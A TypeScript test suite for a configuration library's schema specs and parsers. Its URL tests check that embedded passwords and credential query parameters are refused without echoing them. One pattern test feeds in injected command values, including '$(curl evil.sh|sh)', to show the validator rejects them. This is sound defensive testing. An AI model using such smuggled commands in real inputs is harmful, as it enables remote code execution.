import fc from 'fast-check';
import * as v from 'valibot';
import { describe, expect, expectTypeOf, it } from 'vitest';
import { z } from 'zod';
import { errorOf } from '../test/config-error.ts';
import { ConfigError } from './errors.ts';
import { checkConfig, loadConfigSync } from './load.ts';
import { boolean, duration, number, oneOf, port, string, url } from './scalars.ts';
import type { Secret } from './secret.ts';
import { secret } from './secret-spec.ts';
import type { InferConfig, Schema } from './spec.ts';
import { json, list } from './structured.ts';

const TEST = { NODE_ENV: 'test' } as const;

describe('InferConfig', () => {
  it('infers every kind, optional keys and Standard Schema outputs', () => {
    const schema = {
      NAME: string(),
      MAYBE: string({ optional: true }),
      COUNT: number({ default: 1 }),
      PORT: port(),
      DEBUG: boolean({ default: false }),
      ISSUER: url(),
      LEVEL: oneOf(['debug', 'info'], { default: 'info' }),
      TTL: duration({ default: '5m' }),
      ORIGINS: list({ of: url() }),
      TAGS: list(),
      LIMITS: json({ schema: z.object({ perMinute: z.number() }) }),
      RAW: json(),
      KEY: secret({ kind: 'jwt-hs256' }),
      OPTIONAL_KEY: secret({ optional: true }),
      MODE: z.enum(['a', 'b']),
      RETRIES: v.pipe(v.string(), v.transform(Number)),
    } satisfies Schema;
    type C = InferConfig<typeof schema>;
    expectTypeOf<C['NAME']>().toEqualTypeOf<string>();
    expectTypeOf<C['MAYBE']>().toEqualTypeOf<string | undefined>();
    expectTypeOf<C['COUNT']>().toEqualTypeOf<number>();
    expectTypeOf<C['PORT']>().toEqualTypeOf<number>();
    expectTypeOf<C['DEBUG']>().toEqualTypeOf<boolean>();
    expectTypeOf<C['ISSUER']>().toEqualTypeOf<string>();
    expectTypeOf<C['LEVEL']>().toEqualTypeOf<'debug' | 'info'>();
    expectTypeOf<C['TTL']>().toEqualTypeOf<number>();
    expectTypeOf<C['ORIGINS']>().toEqualTypeOf<readonly string[]>();
    expectTypeOf<C['TAGS']>().toEqualTypeOf<readonly string[]>();
    expectTypeOf<C['LIMITS']>().toEqualTypeOf<{ readonly perMinute: number }>();
    expectTypeOf<C['RAW']>().toEqualTypeOf<unknown>();
    expectTypeOf<C['KEY']>().toEqualTypeOf<Secret>();
    expectTypeOf<C['OPTIONAL_KEY']>().toEqualTypeOf<Secret | undefined>();
    expectTypeOf<C['MODE']>().toEqualTypeOf<'a' | 'b'>();
    expectTypeOf<C['RETRIES']>().toEqualTypeOf<number>();
  });
});

describe('secret', () => {
  it('has no default at the type level or at run time', () => {
    // @ts-expect-error secrets have no default
    expect(() => secret({ default: 'dev-key' })).toThrow(ConfigError);
    // @ts-expect-error secrets have no devDefault either
    expect(() => secret({ devDefault: 'dev-key' })).toThrow(/does not accept `devDefault`/);
    expect(() => secret({ fallback: 'x' } as never)).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA' }));
  });

  it('refuses unknown kinds, encodings and sources', () => {
    expect(() => secret({ kind: 'rsa' as never })).toThrow(/kind must be one of/);
    expect(() => secret({ encoding: 'latin1' as never })).toThrow(/encoding/);
    expect(() => secret({ sources: [] })).toThrow(/sources/);
  });

  it('refuses a minBytes that is not a positive safe integer', () => {
    for (const minBytes of [Number.NaN, 0, -32, 1.5, Number.POSITIVE_INFINITY, 2 ** 60, 'abc', '64', null]) {
      expect(() => secret({ minBytes: minBytes as never }), String(minBytes)).toThrow(
        expect.objectContaining({
          code: 'ERR_CONFIG_SCHEMA',
          message: expect.stringMatching(/minBytes must be a positive safe integer/),
        }),
      );
    }
    expect(secret({ minBytes: 64 }).secret?.minBytes).toBe(64);
  });

  it('refuses a denylist that is not a list of strings, holes included', () => {
    // A string was one entry per character; a hole or a number threw a TypeError in production only.
    // biome-ignore lint/suspicious/noSparseArray: the holes are what is tested
    for (const denylist of ['abc', [1], [, 'old-key'], new Array(1), null]) {
      expect(() => secret({ denylist: denylist as never })).toThrow(
        expect.objectContaining({
          code: 'ERR_CONFIG_SCHEMA',
          message: expect.stringMatching(/denylist must be a list of strings/),
        }),
      );
    }
    expect(secret({ denylist: ['old-key'] }).secret?.denylist).toEqual(['old-key']);
  });
});

describe('string, number, port, boolean, url, oneOf, duration, list, json', () => {
  it('validate defaults when the schema is defined', () => {
    expect(() => port({ default: 70_000 })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA' }));
    expect(() => url({ default: 'not a url' })).toThrow(/default is invalid/);
    expect(() => oneOf(['a', 'b'], { default: 'c' as 'a' })).toThrow(/default is invalid/);
    expect(() => duration({ default: 'soon' })).toThrow(/not a duration/);
    expect(() => string({ defualt: 'x' } as never)).toThrow(/defualt/);
  });

  it('validate list items, json documents, booleans and durations given as defaults', () => {
    const schemaError = (message: RegExp) =>
      expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA', message: expect.stringMatching(message) });
    expect(() =>
      list({ of: url({ protocols: ['https:'] }), default: ['http://x.test', 'not a url', 'https://u:pw@h.test'] }),
    ).toThrow(
      schemaError(
        /item 1 must use one of the protocols https:.*item 2 must be an absolute URL.*item 3 embeds a password/,
      ),
    );
    expect(() => list({ default: ['', 'a,b'] })).toThrow(schemaError(/item 1 is empty.*item 2 contains the separator/));
    expect(() => list({ of: port(), default: [8080, 0] })).toThrow(schemaError(/item 2 must be at least 1/));
    expect(() => list({ default: 'a,b' as never })).toThrow(schemaError(/must be an array/));
    expect(() => json({ default: JSON.parse(`${'['.repeat(300)}${']'.repeat(300)}`) })).toThrow(
      schemaError(/256 levels/),
    );
    for (const bad of [Number.NaN, Number.POSITIVE_INFINITY, -1]) {
      expect(() => duration({ default: bad }), String(bad)).toThrow(
        schemaError(/duration\(\): the default is invalid/),
      );
    }
    expect(() => boolean({ default: 'no' as never })).toThrow(
      schemaError(/boolean\(\): the default is invalid: must be true or false/),
    );
    expect(() => number({ default: '3' as never })).toThrow(schemaError(/must be a number/));
    expect(() => string({ default: 3 as never })).toThrow(schemaError(/must be a string/));
    expect(() => url({ default: 'https://app:hunter2hunter2@db.test' })).toThrow(schemaError(/embeds a password/));
    // Messages never quote the default.
    try {
      list({ of: url(), default: ['https://app:hunter2hunter2@db.test'] });
    } catch (error) {
      expect((error as Error).message).not.toContain('hunter2');
    }
    // Good defaults still load.
    const config = loadConfigSync(
      {
        L: list({ of: url({ protocols: ['https:'] }), default: ['https://a.test', 'https://b.test'] }),
        J: json({ schema: z.object({ n: z.number() }), default: { n: 1 } }),
        B: boolean({ default: false }),
        D: duration({ default: 1000 }),
      },
      { env: TEST },
    );
    expect(config).toEqual({ L: ['https://a.test', 'https://b.test'], J: { n: 1 }, B: false, D: 1000 });
  });

  it('json() accepts a default of the schema output type (a transforming schema), checking only its depth', () => {
    const hosts = json({
      schema: z.object({ hosts: z.string().transform((s) => s.split(',')) }),
      default: { hosts: ['a', 'b'] },
    });
    expect(loadConfigSync({ H: hosts }, { env: TEST }).H).toEqual({ hosts: ['a', 'b'] });
    expect(loadConfigSync({ H: hosts }, { env: { ...TEST, H: '{"hosts":"x,y"}' } }).H).toEqual({ hosts: ['x', 'y'] });
  });

  it('json() checks the depth of a default with shared sub-objects quickly, and refuses a cyclic one', {
    timeout: 5_000,
  }, () => {
    let node: Record<string, unknown> = {};
    for (let level = 0; level < 40; level++) node = { left: node, right: node };
    expect(() => json({ default: node })).not.toThrow();
    let deep: Record<string, unknown> = {};
    for (let level = 0; level < 300; level++) deep = { left: deep, right: deep };
    expect(() => json({ default: deep })).toThrow(
      expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA', message: expect.stringMatching(/256 levels/) }),
    );
    const cyclic: Record<string, unknown> = { a: [1] };
    (cyclic.a as unknown[]).push({ back: cyclic });
    expect(() => json({ default: cyclic })).toThrow(
      expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA', message: expect.stringMatching(/cycl/) }),
    );
  });

  it('list() refuses an item spec that is not a spec and an empty or non-string separator', () => {
    const schemaError = (message: RegExp) =>
      expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA', message: expect.stringMatching(message) });
    expect(() => list({ of: z.enum(['a', 'b']) as never })).toThrow(schemaError(/list\(\): `of` must be a spec/));
    expect(() => list({ of: 'string' as never })).toThrow(schemaError(/`of` must be a spec/));
    expect(() => list({ separator: '' })).toThrow(schemaError(/separator must be a non-empty string/));
    expect(() => list({ separator: 1 as never })).toThrow(schemaError(/separator must be a non-empty string/));
    expect(list({ separator: ' ' }).parse('a b')).toEqual({ ok: true, value: ['a', 'b'] });
  });

  it('oneOf() and url({ protocols }) refuse lists with holes, a string or anything else', () => {
    const schemaError = (message: RegExp) =>
      expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA', message: expect.stringMatching(message) });
    // biome-ignore lint/suspicious/noSparseArray: the holes are what is tested
    for (const choices of [['a', , 'b'], new Array(2), [], 'ab', [1]]) {
      expect(() => oneOf(choices as never)).toThrow(schemaError(/oneOf\(\) needs a non-empty array of strings/));
    }
    // A string was searched as a substring: `'https:'` let `s://…` through.
    // biome-ignore lint/suspicious/noSparseArray: the holes are what is tested
    for (const protocols of ['https:', [, 'https:'], new Array(1), [], [1]]) {
      expect(() => url({ protocols: protocols as never })).toThrow(
        schemaError(/url\(\): protocols must be a non-empty list of protocols/),
      );
    }
    expect(url({ protocols: ['https:'] }).parse('https://x.test')).toEqual({ ok: true, value: 'https://x.test' });
  });

  it('url({ protocols }) refuses at build an entry URL.protocol never gives, which refused every URL at load', () => {
    for (const protocols of [['https'], ['HTTPS:'], ['https://'], [' https:'], [':'], ['1http:'], ['https:', 'http']]) {
      expect(() => url({ protocols: protocols as never }), JSON.stringify(protocols)).toThrow(
        expect.objectContaining({
          code: 'ERR_CONFIG_SCHEMA',
          message: expect.stringMatching(
            /protocols must be a non-empty list of protocols .*e\.g\. `protocols: \['https:'\]`/,
          ),
        }),
      );
    }
    const spec = url({ protocols: ['https:', 'postgres:', 'svn+ssh:', 'coap.tcp:'] });
    expect(spec.parse('postgres://db.test/app')).toEqual({ ok: true, value: 'postgres://db.test/app' });
    expect(spec.parse('svn+ssh://x.test/repo')).toEqual({ ok: true, value: 'svn+ssh://x.test/repo' });
  });

  it('url({ protocols }) accepts exactly the protocols some URL has (property)', () => {
    const char = fc.constantFrom(...'abzAZ09+.-:/_ '.split(''));
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: char, maxLength: 8 }), fc.string({ maxLength: 8 })), (protocol) => {
        let reachable = false;
        try {
          reachable = new URL(`${protocol}//x.test/`).protocol === protocol;
        } catch {}
        let built = true;
        try {
          url({ protocols: [protocol] });
        } catch (error) {
          expect(error).toMatchObject({ code: 'ERR_CONFIG_SCHEMA' });
          built = false;
        }
        expect(built, protocol).toBe(reachable);
      }),
    );
  });

  it('parse what they promise and refuse the rest', () => {
    const schema = {
      A: number({ integer: true, min: 0 }),
      B: boolean(),
      C: port(),
      D: url({ protocols: ['https:'] }),
      E: list({ of: port(), separator: ';' }),
      F: duration(),
      G: json({ schema: z.object({ n: z.number() }) }),
      H: string({ pattern: /[a-z]+/ }),
    };
    const config = loadConfigSync(schema, {
      env: {
        ...TEST,
        A: '42',
        B: 'Yes',
        C: '8080',
        D: 'https://x.test/',
        E: '1; 2;3',
        F: '1h30m',
        G: '{"n":1}',
        H: 'abc',
      },
    });
    expect(config).toEqual({
      A: 42,
      B: true,
      C: 8080,
      D: 'https://x.test/',
      E: [1, 2, 3],
      F: 5_400_000,
      G: { n: 1 },
      H: 'abc',
    });
    const error = errorOf(() =>
      loadConfigSync(schema, {
        env: {
          ...TEST,
          A: '1.5',
          B: 'maybe',
          C: '0',
          D: 'http://x.test',
          E: '1;;2',
          F: '10',
          G: '{"n":"1"}',
          H: 'abc1',
        },
      }),
    );
    expect(error.issues.map((issue) => [issue.key, issue.code])).toEqual(
      ['A', 'B', 'C', 'D', 'E', 'F', 'G', 'H'].map((key) => [key, 'invalid']),
    );
  });

  it('refuse URLs that embed a password unless allowed', () => {
    const env = { ...TEST, DB: 'postgres://app:hunter2hunter2@db.internal/app' };
    expect(errorOf(() => loadConfigSync({ DB: url() }, { env })).issues[0]?.message).toMatch(/embeds a password/);
    expect(loadConfigSync({ DB: url({ allowCredentials: true }) }, { env }).DB).toBe(env.DB);
    // A password without a user name is still a password; a user name alone is an identifier (README).
    const noUser = { ...TEST, DB: 'postgres://:hunter2hunter2@db.internal/app' };
    expect(errorOf(() => loadConfigSync({ DB: url() }, { env: noUser })).issues[0]?.message).toMatch(
      /embeds a password/,
    );
    for (const value of ['postgres://app@db.internal/app', 'postgres://app:@db.internal/app']) {
      expect(loadConfigSync({ DB: url() }, { env: { ...TEST, DB: value } }).DB).toBe(value);
    }
  });

  it('refuse URLs that carry a credential in a query parameter unless allowed, naming the parameter only', () => {
    const cases = [
      ['postgres://app@db.internal/prod?password=hunter2hunter2', 'password'],
      ['mongodb://db.internal/prod?authSource=admin&password=hunter2hunter2', 'password'],
      ['https://api.example.com/v1?api_key=hunter2hunter2', 'api_key'],
      ['https://api.example.com/v1?x=1&API-Key=hunter2hunter2', 'API-Key'],
      ['https://api.example.com/v1?apikey=hunter2hunter2', 'apikey'],
      ['https://auth.example.com/cb?client_secret=hunter2hunter2', 'client_secret'],
      ['https://api.example.com/v1?access_token=hunter2hunter2', 'access_token'],
      ['https://api.example.com/v1?Token=hunter2hunter2', 'Token'],
      ['mysql://app@db.internal/prod?pwd=hunter2hunter2', 'pwd'],
      ['postgres://app@db.internal/prod?sslmode=verify-full&sslpassword=hunter2hunter2', 'sslpassword'],
      ['https://acct.blob.core.windows.net/c?sv=2022-11-02&sig=hunter2hunter2', 'sig'],
    ] as const;
    for (const [value, name] of cases) {
      const env = { ...TEST, U: value };
      const issue = errorOf(() => loadConfigSync({ U: url() }, { env })).issues[0];
      expect(issue?.code, value).toBe('invalid');
      expect(issue?.message, value).toContain(`query parameter ${name}`);
      expect(issue?.message, value).not.toContain('hunter2');
      expect(loadConfigSync({ U: url({ allowCredentials: true }) }, { env }).U).toBe(value);
    }
    // Ordinary parameters, and an empty credential parameter, are fine.
    for (const value of [
      'postgres://app@db.internal/prod?sslmode=verify-full&application_name=billing',
      'mongodb://db.internal/prod?authSource=admin&replicaSet=rs0',
      'https://api.example.com/v1?page=2&passive=true&tokens_per_minute=10',
      'postgres://app@db.internal/prod?password=',
    ]) {
      expect(loadConfigSync({ U: url() }, { env: { ...TEST, U: value } }).U).toBe(value);
    }
  });

  it('refuse credential names written with brackets, padding or NUL, in fragments and as ;name=value, naming the parameter only', () => {
    const cases = [
      ['https://h.example/?password[]=hunter2hunter2', /parameter password/],
      ['https://h.example/?user[password]=hunter2hunter2', /parameter user\[password\]/],
      ['https://h.example/?auth[token]=hunter2hunter2', /parameter auth\[token\]/],
      ['https://h.example/?password%20=hunter2hunter2', /parameter password/],
      ['https://h.example/?password%00=hunter2hunter2', /parameter password/],
      ['https://h.example/p;password=hunter2hunter2', /parameter password/],
      ['https://h.example/a;v=1/b;Password=hunter2hunter2?x=1', /parameter Password/],
      ['https://h.example/cb#access_token=hunter2hunter2&token_type=bearer', /parameter access_token/],
      ['https://h.example/cb#state=1&id_token=hunter2hunter2', /parameter id_token/],
      ['https://h.example/?x=1;password=hunter2hunter2', /parameter password/],
    ] as const;
    for (const [value, message] of cases) {
      const parsed = url().parse(value);
      expect(parsed, value).toEqual({ ok: false, reason: expect.stringMatching(message) });
      expect(JSON.stringify(parsed), value).not.toContain('hunter2');
      expect(url({ allowCredentials: true }).parse(value), value).toEqual({ ok: true, value });
    }
    for (const value of [
      'https://h.example/?tags[]=a&filter[name]=b&page%20=2',
      'https://h.example/p;v=1/q;jsessionid=?x=1;y=2',
      'https://h.example/docs#section-2',
      'https://h.example/cb#state=abc&code_challenge_method=S256',
      'https://h.example/?password[]=',
      'data:text/plain;charset=utf-8,hello',
    ]) {
      expect(url().parse(value), value).toEqual({ ok: true, value });
    }
  });

  it('read short credential names (key, auth, sig, pass) only as a whole query name before any bracket', () => {
    for (const value of [
      'https://api.example.com/items?sort[key]=created_at',
      'https://api.example.com/items?filter[key]=status',
      'https://api.example.com/items?fields[key]=name',
      'https://api.example.com/items?order[auth]=asc',
      'https://api.example.com/items?meta[sig]=1',
      'https://api.example.com/items?q[pass]=1',
    ]) {
      expect(url().parse(value), value).toEqual({ ok: true, value });
    }
    // Credential-suffixed names stay refused in any bracketed part: `user[reset_token]=` is a form
    // field holding a token as often as `filter[reset_token]=` is a filter.
    for (const [value, name] of [
      ['https://h.example/?password[]=hunter2hunter2', 'password[]'],
      ['https://h.example/?user[password]=hunter2hunter2', 'user[password]'],
      ['https://h.example/?auth[token]=hunter2hunter2', 'auth[token]'],
      ['https://h.example/?key[]=hunter2hunter2', 'key[]'],
      ['https://h.example/?page[token]=next', 'page[token]'],
      ['https://h.example/?filter[reset_token]=expired', 'filter[reset_token]'],
      ['https://h.example/?facet[secret]=false', 'facet[secret]'],
    ] as const) {
      const parsed = url().parse(value);
      expect(parsed, value).toEqual({ ok: false, reason: expect.stringContaining(`parameter ${name}:`) });
    }
  });

  it('read fragments, path ;parameters and ;parameters inside query values with the credential suffixes only', () => {
    for (const value of [
      'https://docs.example.com/page#key=value',
      'https://docs.example.com/page#auth=sso',
      'https://app.example.com/#sig=abc',
      'https://www.example.com/#main-content;key=x',
      'https://cdn.example.com/a.js#sha256=abc;sig=xyz',
      'https://app.example.com/files/report;key=2024',
      'https://app.example.com/login;auth=saml',
      'https://maps.example.com/tiles/{z}/{x}/{y}.png;key=public',
      'sip:alice@example.com;transport=tcp;auth=digest',
      'https://maps.example.com/staticmap?style=feature:all;key=1',
      'https://db.example.com/run?query=select+1;key=v',
    ]) {
      expect(url().parse(value), value).toEqual({ ok: true, value });
    }
    for (const [value, name] of [
      ['https://h.example/cb#access_token=hunter2hunter2&token_type=bearer', 'access_token'],
      ['https://h.example/cb#state=1&id_token=hunter2hunter2', 'id_token'],
      // A hash-router password-reset link carries a real one-time credential.
      ['https://app.example.com/#/reset;token=abc', 'token'],
      ['https://h.example/p;password=hunter2hunter2', 'password'],
      ['https://h.example/p;pwd=hunter2hunter2', 'pwd'],
      ['https://h.example/?x=1;password=hunter2hunter2', 'password'],
      ['https://h.example/?key=hunter2hunter2', 'key'],
      ['https://h.example/?x=1&sig=hunter2hunter2', 'sig'],
    ] as const) {
      expect(url().parse(value), value).toEqual({ ok: false, reason: expect.stringContaining(`parameter ${name}:`) });
    }
  });

  it('refuse credentials inside nested-scheme URLs (jdbc:) unless allowed, naming the parameter only', () => {
    const cases = [
      ['jdbc:mysql://app:S3cretPw@db:3306/shop', /embeds a password/],
      ['jdbc:postgresql://app:S3cretPw@db/shop', /embeds a password/],
      ['jdbc:tc:mysql://app:S3cretPw@db/shop', /embeds a password/],
      ['jdbc:postgresql://db/shop?user=app&password=S3cretPw', /query parameter password/],
      ['jdbc:sqlserver://db:1433;user=app;password=S3cretPw', /parameter password/],
      ['jdbc:sqlserver://db:1433;databaseName=shop;Password=S3cretPw;encrypt=true', /parameter Password/],
      // Inner URLs WHATWG cannot parse (host lists), Oracle thin `user/password@`, MySQL `(name=value)`.
      ['jdbc:mysql://app:S3cretPw@h1:3306,h2:3306/shop', /embeds a password/],
      ['jdbc:mysql:loadbalance://app:S3cretPw@h1:3306,h2:3306/shop', /embeds a password/],
      ['jdbc:oracle:thin:scott/S3cretPw@//db.example:1521/ORCL', /embeds a password/],
      ['jdbc:oracle:thin:scott/S3cretPw@db.example:1521:ORCL', /embeds a password/],
      ['jdbc:mysql://address=(host=db)(port=3306)(user=app)(password=S3cretPw)/shop', /parameter password/],
      ['jdbc:mysql://(host=db,port=3306,user=app,password=S3cretPw)/shop', /parameter password/],
      ['jdbc:mysql://address=(host=db1,password=S3cretPw)/shop', /parameter password/],
      ['jdbc:oracle:oci:scott/S3cretPw@db', /embeds a password/],
      ['jdbc:oracle:kprb:scott/S3cretPw@db', /embeds a password/],
    ] as const;
    for (const [value, message] of cases) {
      const env = { ...TEST, U: value };
      const issue = errorOf(() => loadConfigSync({ U: url() }, { env })).issues[0];
      expect(issue?.code, value).toBe('invalid');
      expect(issue?.message, value).toMatch(message);
      expect(issue?.message, value).not.toContain('S3cretPw');
      expect(loadConfigSync({ U: url({ allowCredentials: true }) }, { env }).U).toBe(value);
    }
    for (const value of [
      'jdbc:mysql://app@db:3306/shop?useSSL=true',
      'jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true',
      'jdbc:postgresql://db/shop?password=',
      'jdbc:mysql://h1:3306,h2:3306/shop',
      'jdbc:mysql://app@h1:3306,h2:3306/shop',
      'jdbc:oracle:thin:@//db.example:1521/ORCL',
      'jdbc:oracle:thin:scott@db.example:1521:ORCL',
      'jdbc:mysql://address=(host=db)(port=3306)(user=app)/shop',
    ]) {
      expect(loadConfigSync({ U: url() }, { env: { ...TEST, U: value } }).U).toBe(value);
    }
  });

  it('url() refuses a URL nesting too many schemes, without overflowing the stack', async () => {
    const deep = `${'jdbc:'.repeat(10_000)}mysql://db/x`;
    expect(url().parse(deep)).toEqual({ ok: false, reason: expect.stringMatching(/at most 8192 characters/) });
    const nested = `${'jdbc:'.repeat(9)}mysql://db/shop`;
    expect(url().parse(nested)).toEqual({ ok: false, reason: expect.stringMatching(/nests more than 8 schemes/) });
    expect(url().parse(`${'jdbc:'.repeat(1_500)}mysql://db/shop`)).toEqual({
      ok: false,
      reason: expect.stringMatching(/nests more than 8 schemes/),
    });
    // Up to the limit, a password is still found in the innermost URL.
    expect(url().parse(`${'jdbc:'.repeat(8)}mysql://app:S3cretPw@db/shop`)).toEqual({
      ok: false,
      reason: expect.stringMatching(/embeds a password/),
    });
    expect(url().parse(`${'jdbc:'.repeat(8)}mysql://db/shop`).ok).toBe(true);
    for (const value of [deep, nested]) {
      const report = await checkConfig({ U: url(), L: list({ of: url() }) }, { env: { ...TEST, U: value, L: value } });
      expect(report.issues.map((issue) => [issue.key, issue.code])).toEqual([
        ['U', 'invalid'],
        ['L', 'invalid'],
      ]);
      expect(JSON.stringify(report.issues)).not.toContain('jdbc:jdbc');
    }
  });

  it('url() refuses a URL longer than 8192 characters, unless allowCredentials skips the credential check', () => {
    const path = 'a'.repeat(8192);
    expect(url().parse(`https://a.example/${path}`)).toEqual({
      ok: false,
      reason: expect.stringMatching(/at most 8192 characters/),
    });
    expect(url({ allowCredentials: true }).parse(`https://a.example/${path}`).ok).toBe(true);
    expect(url({ allowCredentials: true }).parse(`data:image/png;base64,${'A'.repeat(9000)}`).ok).toBe(true);
    expect(url().parse(`https://a.example/${path.slice(0, 8192 - 'https://a.example/'.length)}`).ok).toBe(true);
  });

  it('url() reads an Oracle URL with many oracle: segments in linear time', () => {
    const value = `jdbc:${':oracle:a:/'.repeat(700)}`;
    expect(url().parse(value).ok).toBe(true);
    expect(url().parse(`${value}@db`)).toEqual({ ok: false, reason: expect.stringMatching(/embeds a password/) });
  });

  it('url() refuses the query parameters key and auth and the AWS secret access key, and only those names', () => {
    for (const [value, name] of [
      ['https://maps.example.com/api/js?key=hunter2hunter2', 'key'],
      ['https://maps.example.com/api/js?v=3&KEY=hunter2hunter2', 'KEY'],
      ['https://db.example.firebaseio.com/users.json?auth=hunter2hunter2', 'auth'],
      ['s3://bucket/path?aws_secret_access_key=hunter2hunter2', 'aws_secret_access_key'],
      ['s3://bucket/path?AWS_SECRET_ACCESS_KEY=hunter2hunter2', 'AWS_SECRET_ACCESS_KEY'],
      ['s3://bucket/path?secretAccessKey=hunter2hunter2', 'secretAccessKey'],
      ['s3://bucket/path?secret-access-key=hunter2hunter2', 'secret-access-key'],
      ['s3://bucket/path?aws_secret_key=hunter2hunter2', 'aws_secret_key'],
      ['jdbc:sqlserver://db:1433;key=hunter2hunter2', 'key'],
    ] as const) {
      const parsed = url().parse(value);
      expect(parsed, value).toEqual({ ok: false, reason: expect.stringContaining(`parameter ${name}`) });
      expect(JSON.stringify(parsed)).not.toContain('hunter2');
      expect(url({ allowCredentials: true }).parse(value).ok, value).toBe(true);
    }
    for (const value of [
      'https://zoo.example/animals?monkey=1&donkey=2&keys=3&hotkey=f5',
      'https://api.example.com/v1?sort_key=name&cache_key=v2&key_id=k1&keyword=cat&keyspace=shop',
      'mongodb://db.internal/prod?authSource=admin&authMechanism=SCRAM-SHA-256&author=me&oauth=1',
      's3://bucket/path?aws_access_key_id=AKIAIOSFODNN7EXAMPLE&X-Amz-Credential=AKIA%2F20240101',
      'https://maps.example.com/api/js?key=',
    ]) {
      expect(url().parse(value).ok, value).toBe(true);
    }
  });

  it('json() refuses documents nested deeper than 256 levels, the same way in checkConfig and loading', async () => {
    const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;
    expect(loadConfigSync({ J: json() }, { env: { ...TEST, J: nested(256) } }).J).toBeDefined();
    for (const depth of [257, 12_000]) {
      const env = { ...TEST, J: nested(depth) };
      const report = await checkConfig({ J: json() }, { env });
      expect(report.issues.map((issue) => [issue.key, issue.code])).toEqual([['J', 'invalid']]);
      expect(report.issues[0]?.message).toMatch(/nested deeper than 256 levels/);
      expect(errorOf(() => loadConfigSync({ J: json() }, { env })).issues).toEqual(report.issues);
    }
  });

  it('deeply freezes a deeply nested value a Standard Schema validator returns', () => {
    const depth = 200_000;
    const schema = { J: z.string().transform((text) => JSON.parse(text) as unknown) };
    const config = loadConfigSync(schema, { env: { ...TEST, J: `${'['.repeat(depth)}${']'.repeat(depth)}` } });
    let value = config.J as unknown[];
    for (let level = 1; level < depth; level++) value = value[0] as unknown[];
    expect(Object.isFrozen(value)).toBe(true);
  });

  it('number parsing accepts exactly decimal numbers', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (n) => {
        const parsed = number().parse(String(n));
        expect(parsed).toEqual({ ok: true, value: Number(String(n)) });
      }),
    );
    for (const bad of ['', ' ', '0x10', 'Infinity', '1e', '--1', '1,5', 'NaN']) {
      expect(number().parse(bad).ok).toBe(false);
    }
  });
});

describe('spec parsers (properties)', () => {
  it('boolean() accepts exactly its spellings in any case', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const parsed = boolean().parse(text);
        const known = ['true', 'false', '1', '0', 'yes', 'no', 'on', 'off'].includes(text.trim().toLowerCase());
        expect(parsed.ok).toBe(known);
      }),
    );
  });

  it('list() round-trips items that contain no separator', () => {
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[^,\s]+$/), { minLength: 1 }), (items) => {
        expect(list().parse(items.join(','))).toEqual({ ok: true, value: items });
        expect(list().parse(items.join(' , '))).toEqual({ ok: true, value: items });
      }),
    );
  });

  it('string({ pattern }) matches the whole value whatever the flags, and gives the same answer every time', () => {
    const multiline = string({ pattern: /[a-z0-9.-]+/m });
    expect(multiline.parse('api.internal\n$(curl evil.sh|sh)').ok).toBe(false);
    expect(string({ pattern: /^[a-z]+$/m }).parse('abc\n$(id)').ok).toBe(false);
    expect(multiline.parse('api.internal').ok).toBe(true);
    for (const pattern of [/[a-z]+/g, /[a-z]+/y, /[a-z]+/gmy]) {
      const spec = string({ pattern });
      for (let i = 0; i < 3; i++) {
        expect(spec.parse('abc').ok, String(pattern)).toBe(true);
        expect(spec.parse('abc1').ok, String(pattern)).toBe(false);
      }
    }
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(multiline.parse(text).ok).toBe(/^[a-z0-9.-]+$/.test(text));
      }),
    );
  });

  it('number({ integer: true }) refuses integers beyond 2^53 instead of rounding them', () => {
    const spec = number({ integer: true });
    for (const text of ['9007199254740993', '9007199254740992', '1e21', '-9007199254740993']) {
      expect(spec.parse(text), text).toEqual({ ok: false, reason: expect.stringMatching(/safe integer/) });
    }
    expect(spec.parse('9007199254740991')).toEqual({ ok: true, value: 9_007_199_254_740_991 });
    expect(() => number({ integer: true, default: 2 ** 60 })).toThrow(/default is invalid/);
    expect(number().parse('1e21')).toEqual({ ok: true, value: 1e21 });
  });

  it('number({ integer: true }) and port() refuse a fraction that would round to an integer', () => {
    for (const text of ['4.9999999999999999', '1.0000000000000001', '8080.00000000000001', '1e-400', '1.5', '15e-1']) {
      expect(number({ integer: true }).parse(text), text).toEqual({ ok: false, reason: 'must be an integer' });
      expect(port().parse(text).ok, text).toBe(false);
    }
    for (const [text, value] of [
      ['5.0', 5],
      ['5.', 5],
      ['1.5e1', 15],
      ['100e-2', 1],
      ['0.0', 0],
      ['-0.000e-5', -0],
      ['8.08e3', 8080],
    ] as const) {
      expect(number({ integer: true }).parse(text), text).toEqual({ ok: true, value });
    }
    expect(port().parse('8080.0')).toEqual({ ok: true, value: 8080 });
    expect(number().parse('4.9999999999999999')).toEqual({ ok: true, value: 5 });
  });

  it('number({ integer: true }) and port() refuse every decimal with a nonzero fractional digit', () => {
    const fraction = fc
      .tuple(fc.stringMatching(/^[0-9]{0,20}$/), fc.integer({ min: 1, max: 9 }), fc.stringMatching(/^[0-9]{0,5}$/))
      .map(([before, digit, after]) => `${before}${digit}${after}`);
    fc.assert(
      fc.property(fc.integer({ min: -100_000, max: 100_000 }), fraction, fc.boolean(), (n, digits, exponent) => {
        const text = `${n}.${digits}${exponent ? 'e0' : ''}`;
        expect(number({ integer: true }).parse(text).ok, text).toBe(false);
        expect(port().parse(text).ok, text).toBe(false);
      }),
    );
  });

  it('port() accepts exactly the integers 1-65535', () => {
    fc.assert(
      fc.property(fc.integer({ min: -100_000, max: 100_000 }), (n) => {
        expect(port().parse(String(n)).ok).toBe(n >= 1 && n <= 65_535);
      }),
    );
  });

  it('no parser throws on arbitrary input', () => {
    const specs = [
      string(),
      number(),
      port(),
      boolean(),
      url(),
      oneOf(['a']),
      duration(),
      list({ of: port() }),
      json(),
      secret(),
    ];
    fc.assert(
      fc.property(fc.string(), (text) => {
        for (const spec of specs) spec.parse(text);
      }),
    );
  });
});
